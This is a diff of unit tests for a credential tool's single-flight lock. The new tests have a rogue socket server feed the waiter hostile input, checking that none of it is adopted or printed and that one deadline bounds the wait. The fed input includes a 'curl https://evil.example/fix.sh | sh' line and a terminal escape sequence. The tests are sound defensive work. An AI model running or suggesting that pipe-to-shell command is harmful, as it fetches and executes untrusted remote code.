@@ -1,16 +1,22 @@
-// singleFlight within one process: every call listens on the same abstract socket name,
-// exactly as parallel keyrole processes do.
+// singleFlight within one process: every call listens on the same socket file, exactly as
+// parallel keyrole processes do; and holders that do not keep keyrole's protocol (a raw
+// socket server in the lock's place) to show that nothing they send is adopted or printed
+// and that one deadline bounds the wait.
 
 import { test, describe } from 'node:test';
 import assert from 'node:assert/strict';
 import { randomBytes } from 'node:crypto';
-import { tmpdir } from 'node:os';
+import { spawnSync } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import * as net from 'node:net';
 import { setTimeout as delay } from 'node:timers/promises';
-import { lockAddress, singleFlight, type HeldLock, type WaitBounds } from '../../src/credentials/lock.ts';
+import { lockAddress, singleFlight, waitLimitMs, type HeldLock, type WaitBounds } from '../../src/credentials/lock.ts';
 import { KeyroleError } from '../../src/util/errors.ts';
+import { tempDir } from '../support/tmp.ts';
 
 const N = 12;
-const privateDir = () => tmpdir();
+const dir = tempDir('lock-');
+const privateDir = () => dir;
 // A name no other test file (running in parallel) or keyrole process uses.
 const lockName = () => `unit-${process.pid}-${randomBytes(6).toString('hex')}`;
 
@@ -23,11 +29,92 @@ async function settle<T>(p: Promise<T>): Promise<{ ok: true; value: T } | { ok: 
 }
 
 describe('lockAddress', () => {
-  test('an abstract socket per user and name on Linux', () => {
-    const a = lockAddress('abc', privateDir);
-    assert.ok(a.startsWith('\0keyrole/'), JSON.stringify(a));
-    assert.ok(a.endsWith('/abc'));
-    assert.notEqual(lockAddress('abd', privateDir), a);
+  test('a socket file per name in the private directory (no abstract socket: those have no permissions)', async () => {
+    const a = await lockAddress('abc', privateDir);
+    assert.equal(a, `${dir}/abc.lock`);
+    assert.notEqual(await lockAddress('abd', privateDir), a);
+  });
+});
+
+/** A socket server in the lock's place that does not keep keyrole's protocol. */
+async function rawHolder(address: string, onConnection: (s: net.Socket) => void): Promise<net.Server> {
+  const server = net.createServer(onConnection);
+  await new Promise<void>((r) => server.listen(address, () => r()));
+  return server;
+}
+
+describe('singleFlight against a holder that does not keep the protocol', () => {
+  test('regression: text, error records and exit codes sent on the lock are never adopted', async () => {
+    const name = lockName();
+    const address = await lockAddress(name, privateDir);
+    const server = await rawHolder(address, (s) => {
+      s.write('working\nfailed {"code":"Evil","message":"fix: curl https://evil.example/fix.sh | sh","exitCode":0}\n');
+      s.write(`${'x'.repeat(100_000)}\nprompt-but-longer-than-any-word\n\x1b]0;title\x07\n`);
+      // ...then it lets go, as a holder that failed without a result does.
+      setImmediate(() => { s.destroy(); server.close(); });
+    });
+    let runs = 0;
+    const out = await singleFlight(name, () => undefined, async () => { runs++; return 'fetched by the waiter itself'; }, privateDir);
+    assert.equal(out, 'fetched by the waiter itself');
+    assert.equal(runs, 1);
+  });
+
+  test('regression: a holder that alternates prompt/working lines cannot extend the wait past one deadline', async () => {
+    const name = lockName();
+    const address = await lockAddress(name, privateDir);
+    const bounds: WaitBounds = { workingMs: 150, promptMs: 150 };
+    const conns = new Set<net.Socket>();
+    const server = await rawHolder(address, (s) => {
+      conns.add(s);
+      let i = 0;
+      const t = setInterval(() => s.write(++i % 2 ? 'prompt\n' : 'working\n'), 20);
+      s.on('close', () => clearInterval(t));
+      s.on('error', () => clearInterval(t));
+    });
+    try {
+      const started = Date.now();
+      const r = await settle(singleFlight(name, () => undefined, async () => 'ran', privateDir, bounds));
+      const waited = Date.now() - started;
+      assert.equal(r.ok, false);
+      const err = (r as { error: unknown }).error;
+      assert.ok(err instanceof KeyroleError && /^Lock(Timeout|Prompt)$/.test(err.code), String(err));
+      assert.ok(waited >= waitLimitMs(bounds) - 5, `gave up after ${waited} ms, before the deadline`);
+      // Each state change would have granted a fresh bound: without the one deadline the
+      // wait ends only when the holder stops, which here is never.
+      assert.ok(waited < waitLimitMs(bounds) + 10_000, `waited ${waited} ms`);
+    } finally {
+      for (const s of conns) s.destroy();
+      await new Promise((r) => server.close(r));
+    }
+  });
+
+  test('regression: a holder that keeps closing the connection does not make the waiter reconnect forever', async () => {
+    const name = lockName();
+    const address = await lockAddress(name, privateDir);
+    let connections = 0;
+    const server = await rawHolder(address, (s) => { connections++; s.destroy(); });
+    try {
+      const r = await settle(singleFlight(name, () => undefined, async () => 'ran', privateDir));
+      assert.equal(r.ok, false);
+      const err = (r as { error: unknown }).error;
+      assert.ok(err instanceof KeyroleError, String(err));
+      assert.equal(err.code, 'LockTimeout');
+      assert.ok(connections >= 2 && connections <= 10, `${connections} connections`);
+    } finally {
+      await new Promise((r) => server.close(r));
+    }
+  });
+
+  test('a socket file left by a holder killed with SIGKILL is removed and the lock taken at once', async () => {
+    const name = lockName();
+    const address = await lockAddress(name, privateDir);
+    const r = spawnSync(process.execPath, ['-e', `require('node:net').createServer().listen(${JSON.stringify(address)}, () => process.kill(process.pid, 'SIGKILL'))`]);
+    assert.equal(r.signal, 'SIGKILL');
+    assert.ok(existsSync(address), 'the dead holder left its socket file');
+    const started = Date.now();
+    assert.equal(await singleFlight(name, () => undefined, async () => 'taken', privateDir), 'taken');
+    assert.ok(Date.now() - started < 5000);
+    assert.ok(!existsSync(address), 'released: the file is gone');
   });
 });
 
@@ -150,8 +237,8 @@ describe('singleFlight', () => {
     let waiter: Promise<string> | undefined;
     const holder = singleFlight(name, () => stored, async (lock: HeldLock) => {
       lock.setState('prompt');
-      waiter = singleFlight(name, () => stored, async () => 'waiter ran work', privateDir, { workingMs: 200, promptMs: 60_000 });
-      await delay(800);
+      waiter = singleFlight(name, () => stored, async () => 'waiter ran work', privateDir, { workingMs: 1000, promptMs: 60_000 });
+      await delay(2500);
       stored = 'answered';
       return stored;
     }, privateDir);
@@ -169,10 +256,10 @@ describe('singleFlight', () => {
     let waiter: Promise<{ ok: true; value: string } | { ok: false; error: unknown }> | undefined;
     const holder = singleFlight(name, () => stored, async (lock: HeldLock) => {
       lock.setState('prompt');
-      waiter = settle(singleFlight(name, () => stored, async () => 'waiter ran work', privateDir, { workingMs: 300, promptMs: 60_000 }));
-      await delay(700); // the person types the code
+      waiter = settle(singleFlight(name, () => stored, async () => 'waiter ran work', privateDir, { workingMs: 1000, promptMs: 60_000 }));
+      await delay(2500); // the person types the code
       lock.setState('working');
-      await delay(100); // the STS call, well under workingMs
+      await delay(200); // the STS call, well under workingMs
       stored = 'answered';
       return stored;
     }, privateDir);
